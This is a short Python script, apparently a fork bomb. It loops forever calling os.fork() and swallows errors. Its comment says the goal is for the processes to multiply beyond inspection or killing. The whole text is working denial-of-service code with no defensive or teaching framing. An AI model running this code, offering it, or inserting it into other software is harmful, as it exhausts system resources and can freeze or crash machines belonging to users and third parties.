# Hopes to be more than can be looked at or killed; every process forks whenever it can.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
